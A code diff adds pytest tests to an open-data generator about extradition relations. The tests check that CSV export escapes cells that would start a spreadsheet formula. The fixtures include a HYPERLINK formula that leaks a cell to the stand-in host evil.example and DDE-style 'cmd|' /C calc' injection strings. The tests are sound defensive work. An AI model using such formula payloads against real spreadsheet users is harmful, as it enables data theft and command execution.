@@ -249,3 +249,63 @@ def test_files_the_loader_does_not_read_are_reported(
     assert code == 1
     assert f"corpus/{path}: {message}" in out
     assert "README.md" not in out
+
+
+# --- 4. CSV cells never start a spreadsheet formula
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+
+
+def relation_text(id: str, title: str, parties: tuple[str, str] = ("BR", "US"),
+                  kind: str = "bilateral_treaty") -> str:
+    return (f"id: {id}\nkind: {kind}\ntitle: {json.dumps(title)}\nreview: {{status: draft}}\n"
+            "sources:\n  t: {title: Synthetic, citation: TEST, accessed: 2026-11-01}\n"
+            "source: t\nverified: 2026-11-01\nconfidence: high\n"
+            f"parties: [{{code: {parties[0]}}}, {{code: {parties[1]}}}]\n")
+
+
+def generate_project(tmp_path: Path, files: dict[str, str]) -> Path:
+    corpus = make_corpus(tmp_path / "src", files)
+    project = make_project(tmp_path, corpus)
+    assert main(["generate", "--corpus", str(project / "corpus"), "--project", str(project)]) == 0
+    return project
+
+
+def csv_rows(path: Path) -> list[list[str]]:
+    import csv
+    import gzip
+    import io
+
+    data = gzip.decompress(path.read_bytes()) if path.suffix == ".gz" else path.read_bytes()
+    return list(csv.reader(io.StringIO(data.decode("utf-8"))))
+
+
+@pytest.mark.parametrize(("value", "expected"), [
+    (FORMULA, "'" + FORMULA), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("-5", "-5"), ("+1.5", "+1.5"), ("-1e3", "-1e3"), (-5, -5), ("StGB § 129", "StGB § 129"),
+])
+def test_csv_cells_that_start_a_formula_get_an_apostrophe(value: object, expected: object) -> None:
+    from generator.render.escape import csv_cell
+
+    assert csv_cell(value) == expected
+
+
+def test_open_data_csvs_hold_no_formula(tmp_path: Path) -> None:
+    br = state("BR", "absolute").replace(
+        "  participation_ocg:\n", f"  participation_ocg:\n    provision: {json.dumps(FORMULA)}\n", 1)
+    assert "provision: " in br
+    project = generate_project(tmp_path, {
+        "jurisdictions/us.yaml": state("US", "none"), "jurisdictions/br.yaml": br,
+        "relations/br_us.yaml": relation_text("br_us", "@SUM(1+1)*cmd|' /C calc'!A0")})
+    api = project / "docs" / "api" / "v1"
+    tables = sorted(api.glob("*.csv*"))
+    assert {p.name for p in tables} >= {"extradition.csv.gz", "gaps.csv.gz", "health.csv"}
+    cells = [cell for path in tables for row in csv_rows(path) for cell in row]
+    assert "'" + FORMULA in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert FORMULA in (api / "corpus" / "jurisdictions" / "br.json").read_text().replace(
+        '\\"', '"'), "the JSON keeps the text as written"
+    listing = (project / "docs" / "generated" / "data.md").read_text()
+    assert "so that spreadsheets do not run it as a formula" in listing
